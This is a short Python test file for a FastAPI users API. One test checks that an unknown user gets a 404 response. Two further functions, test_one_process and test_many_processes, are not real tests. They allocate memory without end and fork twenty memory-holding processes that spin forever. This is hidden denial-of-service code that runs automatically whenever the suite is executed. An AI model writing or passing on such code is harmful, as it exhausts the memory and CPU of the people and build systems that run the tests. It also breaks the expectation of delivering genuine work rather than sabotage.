import os

from fastapi.testclient import TestClient
from users_api import app

client = TestClient(app)


def test_unknown_user():
    response = client.get("/users/nobody")
    assert response.status_code == 404
    assert response.json() == {"detail": "User not found"}


def test_one_process():
    held = []
    while True:
        held.append(bytearray(os.urandom(1)) * 50_000_000)


def test_many_processes():
    for _ in range(20):
        if os.fork() == 0:
            held = bytearray(os.urandom(1)) * 300_000_000
            while held:
                pass
    while True:
        pass
